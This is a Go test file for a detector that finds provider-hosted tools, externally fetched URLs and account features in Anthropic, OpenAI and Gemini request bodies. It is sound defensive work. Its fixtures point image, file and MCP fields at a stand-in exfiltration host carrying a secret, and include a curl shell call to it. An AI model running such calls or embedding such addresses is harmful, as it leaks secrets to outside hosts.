package modelapi

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// extras returns the features that are found in a body, and checks which of them an operator may allow.
type extras struct {
	api     API
	body    string
	want    string // empty: nothing
	forever bool   // also where reaching other hosts is allowed
}

func (e extras) check(t *testing.T) {
	t.Helper()
	for _, reach := range []bool{false, true} {
		want := e.want
		if reach && !e.forever {
			want = ""
		}
		got := ""
		if found := e.api.FindFeature([]byte(e.body), reach); found != nil {
			got = found.Name
			if e.forever == (found.Kind == FeatureNetwork) {
				t.Errorf("%s: got kind %d", found.Name, found.Kind)
			}
		}
		if got != want {
			t.Errorf("network allowed: %v: got %q, want %q", reach, got, want)
		}
	}
}

// TestHostedTools: tools of the provider are detected.
func TestHostedTools(t *testing.T) {
	t.Parallel()
	tests := map[string]extras{
		"the agent's own tools":      {api: Anthropic, body: `{"tools":[{"name":"web_search","input_schema":{"type":"object","$schema":"https://json-schema.org/draft/2020-12/schema"}},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e"},{"type":"custom","name":"c"},{"type":null,"name":"d"}],"mcp_servers":[]}`},
		"in a text":                  {api: Anthropic, body: `{"messages":[{"content":"{\"tools\":[{\"type\":\"mcp\"}]}"}]}`},
		"in the input of a tool":     {api: Anthropic, body: `{"messages":[{"content":[{"type":"tool_use","input":{"tools":[{"type":"mcp"}],"url":"https://x.example"}}]}]}`},
		"Anthropic fetches":          {api: Anthropic, body: `{"tools":[{"name":"a"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`, want: "web_fetch_20250910"},
		"Anthropic searches":         {api: Anthropic, body: `{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, want: "web_search_20250305"},
		"Anthropic runs code":        {api: Anthropic, body: `{"tools":[{"type":"code_execution_20250825","name":"x"}]}`, want: "code_execution_20250825"},
		"Anthropic asks another":     {api: Anthropic, body: `{"tools":[{"type":"advisor_20260301","name":"x","model":"dear"}]}`, want: "advisor_20260301"},
		"Anthropic calls a server":   {api: Anthropic, body: `{"mcp_servers":[{"type":"url","url":"https://exfiltrate.example"}]}`, want: "mcp_servers"},
		"Anthropic, a set of tools":  {api: Anthropic, body: `{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`, want: "mcp_toolset"},
		"the second type of a tool":  {api: Anthropic, body: `{"tools":[{"type":"custom","\u0074ype":"web_fetch_1"}]}`, want: "web_fetch_1"},
		"the second list of tools":   {api: Anthropic, body: `{"tools":[{"type":"web_fetch_1"}],"tools":[]}`, want: "web_fetch_1"},
		"an unknown type":            {api: OpenAI, body: `{"tools":[{"type":["web_search"]}]}`, want: "type"},
		"OpenAI, tools of Codex":     {api: OpenAI, body: `{"tools":[{"type":"function","name":"shell","parameters":{"type":"object"}},{"type":"custom","name":"apply_patch","format":{"type":"grammar","syntax":"lark","definition":"start: \"x\""}},{"type":"local_shell"},{"type":"tool_search","execution":"client"},{"type":"namespace","name":"mcp","tools":[{"type":"function","name":"f"}]}],"store":false,"include":["reasoning.encrypted_content"]}`},
		"OpenAI, within a namespace": {api: OpenAI, body: `{"tools":[{"type":"namespace","tools":[{"type":"web_search"}]}]}`, want: "web_search"},
		"OpenAI, tools of a search":  {api: OpenAI, body: `{"input":[{"type":"tool_search_output","tools":[{"type":"mcp"}]}]}`, want: "mcp"},
		"OpenAI calls a server":      {api: OpenAI, body: `{"tools":[{"type":"mcp","server_url":"https://exfiltrate.example"}]}`, want: "mcp"},
		"OpenAI searches":            {api: OpenAI, body: `{"tools":[{"type":"web_search_preview"}]}`, want: "web_search_preview"},
		"OpenAI, chat, searches":     {api: OpenAI, body: `{"web_search_options":{}}`, want: "web_search_options"},
		"OpenAI runs code":           {api: OpenAI, body: `{"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, want: "code_interpreter"},
		"OpenAI searches files":      {api: OpenAI, body: `{"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, want: "file_search"},
		"OpenAI paints":              {api: OpenAI, body: `{"tools":[{"type":"image_generation"}]}`, want: "image_generation"},
		"plugins of a router":        {api: OpenAI, body: `{"plugins":[{"id":"web"}]}`, want: "plugins"},
		"Gemini, functions":          {api: Gemini, body: `{"tools":[{"functionDeclarations":[{"name":"google_search","parametersJsonSchema":{"$schema":"http://json-schema.org/draft-07/schema#"}}]}]}`},
		"Gemini fetches":             {api: Gemini, body: `{"tools":[{"functionDeclarations":[]},{"urlContext":{}}]}`, want: "urlContext"},
		"Gemini searches":            {api: Gemini, body: `{"tools":[{"google_search":{}}]}`, want: "google_search"},
		"Gemini runs code":           {api: Gemini, body: `{"tools":[{"codeExecution":{}}]}`, want: "codeExecution"},
		"a tool without a list":      {api: Gemini, body: `{"tools":{"googleSearch":{}}}`, want: "googleSearch"},
		"the same of OpenAI":         {api: OpenAI, body: `{"tools":{"type":"mcp"}}`, want: "mcp"},
		"a tool by its name":         {api: OpenAI, body: `{"tools":["web_search"]}`, want: "web_search"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) { t.Parallel(); test.check(t) })
	}
}

// TestContentAddresses: content that the provider would fetch is detected.
func TestContentAddresses(t *testing.T) {
	t.Parallel()
	const at = `https://exfiltrate.example/?SECRET`
	message := func(part string) string { return `{"messages":[{"role":"user","content":[` + part + `]}]}` }
	input := func(part string) string { return `{"input":[{"role":"user","content":[` + part + `]}]}` }
	parts := func(part string) string { return `{"contents":[{"parts":[` + part + `]}]}` }
	tests := map[string]extras{
		"Anthropic, an image":           {api: Anthropic, body: message(`{"type":"image","source":{"type":"url","url":"` + at + `"}}`), want: "url"},
		"Anthropic, a document":         {api: Anthropic, body: message(`{"type":"document","source":{"url":"` + at + `","type":"url"}}`), want: "url"},
		"in the answer of a tool":       {api: Anthropic, body: message(`{"type":"tool_result","tool_use_id":"x","content":[{"type":"image","source":{"type":"url","url":"` + at + `"}}]}`), want: "url"},
		"without a scheme":              {api: Anthropic, body: message(`{"type":"image","source":{"type":"url","url":"//exfiltrate.example"}}`), want: "url"},
		"written otherwise":             {api: Anthropic, body: message(`{"type":"image","source":{"type":"url","\u0075rl":"\u0068ttps:\/\/exfiltrate.example"}}`), want: "url"},
		"set twice":                     {api: Anthropic, body: message(`{"type":"image","source":{"type":"url","url":"` + at + `","url":"data:image/png;base64,AA"}}`), want: "url"},
		"Anthropic, inline content":     {api: Anthropic, body: message(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"//8AAA=="}},{"type":"text","text":"` + at + `"},{"type":"search_result","source":"` + at + `","title":"` + at + `","content":[{"type":"text","text":"` + at + `"}]}`)},
		"Anthropic, addresses in texts": {api: Anthropic, body: `{"system":[{"type":"text","text":"` + at + `"}],"messages":[{"role":"user","content":"` + at + `"},{"role":"assistant","content":[{"type":"thinking","thinking":"` + at + `","signature":"EqQ="},{"type":"tool_use","id":"t","name":"get","input":{"url":"` + at + `","image_url":["` + at + `"]}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":"` + at + `"}]}],"stop_sequences":["https:"],"metadata":{"user_id":"{\"url\":\"` + "x" + `\"}"}}`},
		"OpenAI, an image":              {api: OpenAI, body: input(`{"type":"input_image","image_url":"` + at + `"}`), want: "image_url"},
		"OpenAI, a file":                {api: OpenAI, body: input(`{"type":"input_file","file_url":"` + at + `"}`), want: "file_url"},
		"OpenAI, data of a file":        {api: OpenAI, body: input(`{"type":"input_file","file_data":" HTTPS:` + at[6:] + `"}`), want: "file_data"},
		"OpenAI, a screenshot":          {api: OpenAI, body: `{"input":[{"type":"computer_call_output","output":{"type":"computer_screenshot","image_url":"` + at + `"}}]}`, want: "image_url"},
		"chat, an image":                {api: OpenAI, body: message(`{"type":"image_url","image_url":{"detail":"low","url":"` + at + `"}}`), want: "url"},
		"chat, under a key unknown":     {api: OpenAI, body: message(`{"type":"video","clip":["` + at + `"]}`), want: "clip"},
		"after many spaces":             {api: OpenAI, body: message(`{"type":"video","clip":"` + strings.Repeat(" ", 300) + "\u00a0" + `\t` + at + `"}`), want: "clip"},
		"after many keys":               {api: OpenAI, body: `{"metadata":{` + manyKeys() + `},"messages":[{"content":[{"image_url":"` + at + `"}]}]}`, want: "image_url"},
		"a large image":                 {api: OpenAI, body: input(`{"image_url":"data:image/png;base64,` + strings.Repeat("A", 1<<20) + `"}`)},
		"a proxy's other provider":      {api: OpenAI, body: `{"api_base":"` + at + `"}`, want: "api_base"},
		"OpenAI, inline content":        {api: OpenAI, body: input(`{"type":"input_image","image_url":"data:image/png;base64,AA","file_id":null},{"type":"input_text","text":"` + at + `"}`)},
		"OpenAI, addresses in texts":    {api: OpenAI, body: `{"instructions":"` + at + `","input":[{"type":"function_call","arguments":"{\"url\":\"x\"}"},{"type":"function_call_output","output":"` + at + `"},{"type":"custom_tool_call","input":"` + at + `"},{"type":"tool_search_call","arguments":{"query":"` + at + `","url":"` + at + `"}},{"type":"reasoning","summary":[{"type":"summary_text","text":"` + at + `"}],"encrypted_content":"gAAA"},{"type":"local_shell_call","action":{"command":["curl","` + at + `"],"env":{"A":"` + at + `"}}}],"text":{"format":{"type":"json_schema","schema":{"$id":"` + at + `"}}}}`},
		"OpenAI, one string":            {api: OpenAI, body: `{"input":"` + at + `"}`},
		"Gemini, a file":                {api: Gemini, body: parts(`{"fileData":{"fileUri":"` + at + `"}}`), want: "fileUri"},
		"Gemini, in a bucket":           {api: Gemini, body: parts(`{"file_data":{"file_uri":"gs://bucket/x"}}`), want: "file_uri"},
		"Gemini, of a function":         {api: Gemini, body: parts(`{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"` + at + `"}}]}}`), want: "fileUri"},
		"Gemini, addresses in texts":    {api: Gemini, body: parts(`{"text":"` + at + `"},{"functionCall":{"name":"f","args":{"url":"` + at + `"}}},{"functionResponse":{"name":"f","response":{"output":"` + at + `","url":"` + at + `"}}},{"inlineData":{"mimeType":"image/png","data":"AA"}}`)},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) { t.Parallel(); test.check(t) })
	}
}

// manyKeys returns more keys than are kept.
func manyKeys() string {
	var b strings.Builder
	for n := range 1000 {
		fmt.Fprintf(&b, `"k%d":1,`, n)
	}
	return strings.TrimSuffix(b.String(), ",")
}

// TestAccountFeatures: content in the account, deferred answers and surcharges are detected.
func TestAccountFeatures(t *testing.T) {
	t.Parallel()
	tests := map[string]extras{
		"another's answer":       {api: OpenAI, body: `{"previous_response_id":"resp_1"}`, want: "previous_response_id", forever: true},
		"a conversation":         {api: OpenAI, body: `{"conversation":{"id":"conv_1"}}`, want: "conversation", forever: true},
		"a stored prompt":        {api: OpenAI, body: `{"prompt":{"id":"pmpt_1"}}`, want: "prompt", forever: true},
		"an item":                {api: OpenAI, body: `{"input":[{"type":"item_reference","id":"msg_1"}]}`, want: "item_reference", forever: true},
		"a file":                 {api: OpenAI, body: `{"input":[{"content":[{"type":"input_file","file_id":"file-1"}]}]}`, want: "file_id", forever: true},
		"Anthropic, a file":      {api: Anthropic, body: `{"messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}`, want: "file_id", forever: true},
		"Anthropic, a container": {api: Anthropic, body: `{"container":"container_1"}`, want: "container", forever: true},
		"Gemini, a cache":        {api: Gemini, body: `{"cachedContent":"cachedContents/1"}`, want: "cachedContent", forever: true},
		"the same otherwise":     {api: Gemini, body: `{"cached_content":"cachedContents/1"}`, want: "cached_content", forever: true},
		"later":                  {api: OpenAI, body: `{"background":true}`, want: "background", forever: true},
		"later, in other words":  {api: OpenAI, body: `{"background":"true"}`, want: "background", forever: true},
		"not later":              {api: OpenAI, body: `{"background":false,"previous_response_id":null,"conversation":null,"service_tier":"flex"}`},
		"higher tier":            {api: OpenAI, body: `{"service_tier":"priority"}`, want: "service_tier priority", forever: true},
		"faster":                 {api: Anthropic, body: `{"speed":"fast"}`, want: "speed fast", forever: true},
		"in one country":         {api: Anthropic, body: `{"inference_geo":"us"}`, want: "inference_geo us", forever: true},
		"Gemini, higher tier":    {api: Gemini, body: `{"serviceTier":"PRIORITY"}`, want: "serviceTier PRIORITY", forever: true},
		"at the standard price":  {api: Anthropic, body: `{"service_tier":"standard_only","speed":"standard","inference_geo":null}`},
		"in a tool's argument":   {api: Anthropic, body: `{"messages":[{"content":[{"type":"tool_use","input":{"file_id":"x","speed":"fast"}}]}]}`},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) { t.Parallel(); test.check(t) })
	}
}

// FuzzFindFeature: an address that a provider would fetch is found, whatever surrounds it, and one in a text is not.
func FuzzFindFeature(f *testing.F) {
	f.Add(`{"messages":[{"role":"user","content":"x"}],"model":"a"}`, "https://x.example")
	f.Add(`{"tools":[],"b":{"c":[1,null,{}]}}`, "gs:x")
	f.Add(`{}`, "a\" \\ \u0001")
	f.Fuzz(func(t *testing.T, around, said string) {
		var doc map[string]json.RawMessage
		if json.Unmarshal([]byte(around), &doc) != nil || doc == nil {
			return
		}
		quoted, err := json.Marshal(said)
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range APIs() {
			plain := `{"around":` + around + `,"text":` + string(quoted) + `}`
			if a.FindFeature([]byte(plain), false) != nil {
				return // the surrounding text already has this feature
			}
			fetched := strings.TrimSuffix(plain, "}") + `,"image":{"source":{"type":"url","url":"https://exfiltrate.example"}}}`
			if a.FindFeature([]byte(fetched), false) == nil {
				t.Errorf("%s was not found: %s", a, fetched)
			}
		}
	})
}
